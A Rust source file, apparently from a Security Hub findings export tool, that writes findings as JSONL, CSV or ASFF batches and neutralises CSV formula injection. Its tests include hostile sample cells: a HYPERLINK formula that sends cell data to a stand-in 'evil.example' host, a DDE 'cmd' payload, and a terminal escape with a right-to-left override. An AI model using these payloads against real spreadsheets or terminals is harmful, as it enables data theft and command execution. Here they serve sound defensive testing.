//! Findings written out: JSONL, CSV, or ASFF: `{"Findings":[...]}` BatchImportFindings
//! request bodies, one a line, each within the request's limits (100 findings, 6 MB), a
//! page at a time. Used by `secdeck export findings`
//! (paging GetFindings) and by the findings pane's export effect (`e`, in the background).

use std::io::Write;
use std::sync::Arc;

use clap::ValueEnum;

use crate::app::{Action, NotifyLevel};
use crate::aws::retry::{Pacer, RetryPolicy, paced};
use crate::aws::securityhub::get_findings_page_raw;
use crate::domain::asff_batch::BatchFill;
use crate::domain::filter::{FindingFilters, SortCriterion};
use crate::domain::finding::Finding;

/// The `--format` values (clap derives their names from this one enum).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, ValueEnum)]
pub enum Format {
    /// One ASFF finding per line.
    #[default]
    Jsonl,
    /// The table's columns, one row per finding.
    Csv,
    /// `{"Findings":[...]}` BatchImportFindings request bodies, one a line, each of at
    /// most 100 findings and 6 MB.
    Asff,
}

/// A CSV column: its header and how a finding fills it.
type CsvColumn = (&'static str, fn(&Finding) -> String);

const CSV_COLUMNS: [CsvColumn; 15] = [
    ("Id", |f| f.id.clone()),
    ("ProductArn", |f| f.product_arn.clone()),
    ("Severity", |f| {
        f.severity.map(|s| s.to_string()).unwrap_or_default()
    }),
    ("Workflow", |f| {
        f.workflow.map(|w| w.to_string()).unwrap_or_default()
    }),
    ("RecordState", |f| f.record_state.clone()),
    ("Title", |f| f.title.clone()),
    ("ResourceType", |f| f.resource_type.clone()),
    ("ResourceId", |f| f.resource_id.clone()),
    ("AwsAccountId", |f| f.account_id.clone()),
    ("Region", |f| f.region.clone()),
    ("ProductName", |f| f.product_name.clone()),
    ("ComplianceStatus", |f| f.compliance_status.clone()),
    ("GeneratorId", |f| f.generator_id.clone()),
    ("CreatedAt", |f| f.created_at.clone()),
    ("UpdatedAt", |f| f.updated_at.clone()),
];

/// RFC 4180: quote a field holding a comma, quote or line break; double inner quotes.
/// A field a spreadsheet would run as a formula (starting with `= + - @`, TAB or CR) is
/// neutralised as OWASP recommends: prefixed with `'` and quoted.
pub fn csv_field(s: &str) -> String {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        return format!("\"'{}\"", s.replace('"', "\"\""));
    }
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_string()
    }
}

/// Writes findings in one format, a page at a time.
pub struct FindingsWriter<W: Write> {
    out: W,
    format: Format,
    written: usize,
    /// ASFF: the request body the current line holds.
    batch: BatchFill,
    /// CSV cells are shown with their control characters made visible (a terminal).
    visible_cells: bool,
    /// The findings are OCSF documents: CSV has the OCSF columns (`export_ocsf`).
    ocsf: bool,
}

impl<W: Write> FindingsWriter<W> {
    pub fn new(out: W, format: Format) -> std::io::Result<Self> {
        Self::new_for(out, format, false)
    }

    /// As [`new`](Self::new); `ocsf`: the findings are OCSF documents (GetFindingsV2), CSV
    /// has the OCSF columns (`export_ocsf::CSV_COLUMNS`) and ASFF bodies are refused.
    pub fn new_for(mut out: W, format: Format, ocsf: bool) -> std::io::Result<Self> {
        match format {
            Format::Asff if ocsf => {
                let m = "--format asff holds ASFF findings; OCSF findings export as jsonl or csv";
                return Err(std::io::Error::new(std::io::ErrorKind::InvalidInput, m));
            }
            Format::Csv => {
                let header: Vec<&str> = if ocsf {
                    super::export_ocsf::CSV_COLUMNS
                        .iter()
                        .map(|(h, _)| *h)
                        .collect()
                } else {
                    CSV_COLUMNS.iter().map(|(h, _)| *h).collect()
                };
                writeln!(out, "{}", header.join(","))?;
            }
            Format::Asff | Format::Jsonl => {}
        }
        Ok(FindingsWriter {
            out,
            format,
            written: 0,
            batch: BatchFill::default(),
            visible_cells: false,
            ocsf,
        })
    }

    /// For a terminal: each CSV cell's control, bidi and zero-width characters are shown
    /// as `⟨U+XXXX⟩` (an embedded line break included), never sent raw.
    pub fn visible_cells(mut self, on: bool) -> Self {
        self.visible_cells = on;
        self
    }

    pub fn page(&mut self, findings: &[Finding]) -> std::io::Result<()> {
        for f in findings {
            match self.format {
                Format::Jsonl | Format::Asff => self.json_finding(f.raw.text().as_bytes())?,
                Format::Csv => {
                    let cell = |text: String| match self.visible_cells {
                        true => csv_field(&crate::domain::sanitize::visible(&text)),
                        false => csv_field(&text),
                    };
                    let row: Vec<String> = if self.ocsf {
                        let cells = super::export_ocsf::csv_cells(&f.raw.value());
                        cells.into_iter().map(cell).collect()
                    } else {
                        CSV_COLUMNS.iter().map(|(_, v)| cell(v(f))).collect()
                    };
                    writeln!(self.out, "{}", row.join(","))?;
                    self.written += 1;
                }
            }
        }
        // Each page reaches the file (or the pipe) as soon as it arrived.
        self.out.flush()
    }

    /// Writes the findings of a GetFindings response body. JSONL and ASFF copy each
    /// finding's JSON text as AWS sent it (no parse into a tree, no re-serialisation);
    /// CSV needs the columns, so it reads the findings.
    pub fn raw_page(&mut self, body: &[u8]) -> std::io::Result<()> {
        use std::io::{Error, ErrorKind};
        if self.format == Format::Csv {
            let findings = crate::aws::securityhub::findings_from_body(body)
                .map_err(|e| Error::new(ErrorKind::InvalidData, e))?;
            return self.page(&findings);
        }
        #[derive(serde::Deserialize)]
        struct Page<'a> {
            #[serde(borrow, rename = "Findings", default)]
            findings: Vec<&'a serde_json::value::RawValue>,
        }
        let page: Page = serde_json::from_slice(body).map_err(|e| {
            Error::new(
                ErrorKind::InvalidData,
                format!("GetFindings response is not JSON: {e}"),
            )
        })?;
        for raw in page.findings {
            let text = raw.get();
            if text.contains(['\n', '\r']) {
                // Pretty-printed by the sender: one line per finding needs it compacted.
                let value: serde_json::Value = serde_json::from_str(text)?;
                self.json_finding(&serde_json::to_vec(&value)?)?;
            } else {
                self.json_finding(text.as_bytes())?;
            }
        }
        self.out.flush()
    }

    /// One finding's compact JSON: a line of JSONL, or added to the current ASFF request
    /// body, which is closed (`]}` and a line break) when the finding would not fit.
    fn json_finding(&mut self, json: &[u8]) -> std::io::Result<()> {
        match self.format {
            Format::Asff if self.batch.is_empty() => self.out.write_all(b"{\"Findings\":[")?,
            Format::Asff if self.batch.admits(json.len()) => self.out.write_all(b",")?,
            Format::Asff => {
                self.out.write_all(b"]}\n{\"Findings\":[")?;
                self.batch = BatchFill::default();
            }
            _ => {}
        }
        self.out.write_all(json)?;
        match self.format {
            Format::Asff => self.batch.add(json.len()),
            _ => self.out.write_all(b"\n")?,
        }
        self.written += 1;
        Ok(())
    }

    pub fn written(&self) -> usize {
        self.written
    }

    pub fn finish(mut self) -> std::io::Result<usize> {
        if self.format == Format::Asff && !self.batch.is_empty() {
            self.out.write_all(b"]}\n")?;
        }
        self.out.flush()?;
        Ok(self.written)
    }
}

/// Pages through GetFindings for `filters`, handing each page to `writer` as it arrives;
/// `progress` hears (findings so far, pages so far). Throttling is retried with backoff.
/// The next page is requested before the current one is written, so the service
/// producing a page and this process writing the last one overlap.
pub async fn export_findings<W: Write + Send>(
    client: &aws_sdk_securityhub::Client,
    filters: &FindingFilters,
    writer: &mut FindingsWriter<W>,
    pacer: Arc<Pacer>,
    progress: &mut (dyn FnMut(usize, usize) + Send),
) -> anyhow::Result<()> {
    let fetch = |token: Option<String>| {
        let (client, filters, pacer) = (client.clone(), filters.clone(), pacer.clone());
        tokio::spawn(async move {
            let retry = RetryPolicy::default();
            let sort = SortCriterion::default_order();
            paced(&pacer, &retry, || {
                get_findings_page_raw(&client, &filters, &sort, token.clone(), 100)
            })
            .await
        })
    };
    let mut next = Some(fetch(None));
    let mut pages = 0usize;
    while let Some(pending) = next.take() {
        let page = pending
            .await
            .map_err(|e| anyhow::anyhow!("GetFindings task: {e}"))??;
        // Ask for the next page first; write this one while it is on its way.
        next = page.next_token.clone().map(|t| fetch(Some(t)));
        writer.raw_page(&page.body)?;
        pages += 1;
        progress(writer.written, pages);
    }
    Ok(())
}

/// The format a file name asks for: `.csv`, `.json` / `.asff` (ASFF), else JSONL.
pub fn format_for(path: &str) -> Format {
    let lower = path.to_ascii_lowercase();
    if lower.ends_with(".csv") {
        Format::Csv
    } else if lower.ends_with(".json") || lower.ends_with(".asff") {
        Format::Asff
    } else {
        Format::Jsonl
    }
}

/// The pane's `e`: writes `findings` off the UI thread and reports back as a notification.
pub fn export_in_background(
    path: String,
    findings: Vec<Finding>,
    tx: tokio::sync::mpsc::UnboundedSender<Action>,
) {
    tokio::task::spawn_blocking(move || {
        let write = || -> std::io::Result<usize> {
            let file = std::fs::File::create(&path)?;
            let mut w = FindingsWriter::new(std::io::BufWriter::new(file), format_for(&path))?;
            w.page(&findings)?;
            w.finish()
        };
        let (level, message) = match write() {
            Ok(n) => (
                NotifyLevel::Success,
                format!("exported {n} findings to {path}"),
            ),
            Err(e) => (NotifyLevel::Error, format!("export to {path} failed: {e}")),
        };
        let _ = tx.send(Action::Notify { level, message });
    });
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn f(title: &str) -> Finding {
        Finding::from_asff(json!({
            "Id": "a", "ProductArn": "arn:p", "Title": title, "Severity": {"Label": "HIGH"}
        }))
        .unwrap()
    }

    fn written(format: Format, pages: &[Vec<Finding>]) -> String {
        let mut buf = Vec::new();
        let mut w = FindingsWriter::new(&mut buf, format).unwrap();
        for p in pages {
            w.page(p).unwrap();
        }
        w.finish().unwrap();
        String::from_utf8(buf).unwrap()
    }

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let text = written(Format::Csv, &[vec![f("plain"), f("a, \"b\"\nc")]]);
        let lines: Vec<&str> = text.lines().collect();
        assert!(lines[0].starts_with("Id,ProductArn,Severity,Workflow"));
        assert!(lines[1].starts_with("a,arn:p,HIGH,,,plain,"));
        assert!(text.contains("\"a, \"\"b\"\"\nc\""), "{text}");
    }

    #[test]
    fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
        let hostile = [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"",
            ),
            ("+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\""),
            ("-2+3", "\"'-2+3\""),
            ("@SUM(1,1)", "\"'@SUM(1,1)\""),
            ("\t=1", "\"'\t=1\""),
            ("\r=1", "\"'\r=1\""),
        ];
        for (cell, written) in hostile {
            assert_eq!(csv_field(cell), written, "{cell:?}");
        }
        assert_eq!(csv_field("a=b"), "a=b", "only a leading character counts");
        // Every column: Title, ResourceId, GeneratorId and the Id itself.
        let f = Finding::from_asff(json!({
            "Id": "=1+1", "ProductArn": "arn:p", "Title": "@x", "GeneratorId": "+g",
            "Severity": {"Label": "HIGH"},
            "Resources": [{"Type": "Other", "Id": "-r"}]
        }))
        .unwrap();
        let text = written(Format::Csv, &[vec![f]]);
        let row = text.lines().nth(1).unwrap();
        for cell in ["\"'=1+1\"", "\"'@x\"", "\"'+g\"", "\"'-r\""] {
            assert!(row.contains(cell), "{cell} in {row}");
        }
    }

    #[test]
    fn csv_for_a_terminal_shows_escapes_in_every_cell() {
        let mut buf = Vec::new();
        let mut w = FindingsWriter::new(&mut buf, Format::Csv)
            .unwrap()
            .visible_cells(true);
        w.page(&[f("\x1b]0;pwned\x07 line\nbreak \u{202E}gnp.exe")])
            .unwrap();
        w.finish().unwrap();
        let text = String::from_utf8(buf).unwrap();
        assert!(
            text.contains("⟨U+001B⟩]0;pwned⟨U+0007⟩ line⟨U+000A⟩break ⟨U+202E⟩gnp.exe"),
            "{text}"
        );
        assert!(!text.contains('\x1b'));
    }

    #[test]
    fn asff_and_jsonl_are_valid_json_across_pages() {
        let pages = [vec![f("1"), f("2")], vec![], vec![f("3")]];
        let doc: serde_json::Value = serde_json::from_str(&written(Format::Asff, &pages)).unwrap();
        assert_eq!(doc["Findings"].as_array().unwrap().len(), 3);
        assert_eq!(
            written(Format::Asff, &[]),
            "",
            "no request body without findings"
        );
        let jsonl = written(Format::Jsonl, &pages);
        let titles: Vec<String> = jsonl
            .lines()
            .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap()["Title"].to_string())
            .collect();
        assert_eq!(titles, ["\"1\"", "\"2\"", "\"3\""]);
    }

    #[test]
    fn asff_writes_one_request_body_a_line_of_at_most_a_hundred_findings() {
        let pages: Vec<Vec<Finding>> = (0..3)
            .map(|p| (0..90).map(|i| f(&format!("{p}-{i}"))).collect())
            .collect();
        let text = written(Format::Asff, &pages);
        let counts: Vec<usize> = text
            .lines()
            .map(|l| {
                let doc: serde_json::Value = serde_json::from_str(l).unwrap();
                doc["Findings"].as_array().unwrap().len()
            })
            .collect();
        assert_eq!(counts, [100, 100, 70]);
        assert!(text.ends_with("]}\n"));
    }

    #[test]
    fn raw_pages_pass_findings_through_and_keep_one_per_line() {
        // Compact findings are copied byte for byte; a pretty-printed one is compacted.
        let body = br#"{"Findings":[{"Id":"a","N":1.50},
            {
              "Id": "b"
            }],"NextToken":"t"}"#;
        let mut buf = Vec::new();
        let mut w = FindingsWriter::new(&mut buf, Format::Jsonl).unwrap();
        w.raw_page(body).unwrap();
        w.raw_page(br#"{"Findings":[]}"#).unwrap();
        assert_eq!(w.finish().unwrap(), 2);
        assert_eq!(
            String::from_utf8(buf).unwrap(),
            "{\"Id\":\"a\",\"N\":1.50}\n{\"Id\":\"b\"}\n"
        );
        let mut buf = Vec::new();
        let mut w = FindingsWriter::new(&mut buf, Format::Asff).unwrap();
        w.raw_page(body).unwrap();
        w.finish().unwrap();
        let doc: serde_json::Value = serde_json::from_slice(&buf).unwrap();
        assert_eq!(doc["Findings"][1]["Id"], "b");
        let mut w = FindingsWriter::new(Vec::new(), Format::Jsonl).unwrap();
        assert!(w.raw_page(b"<html>").is_err());
    }
}
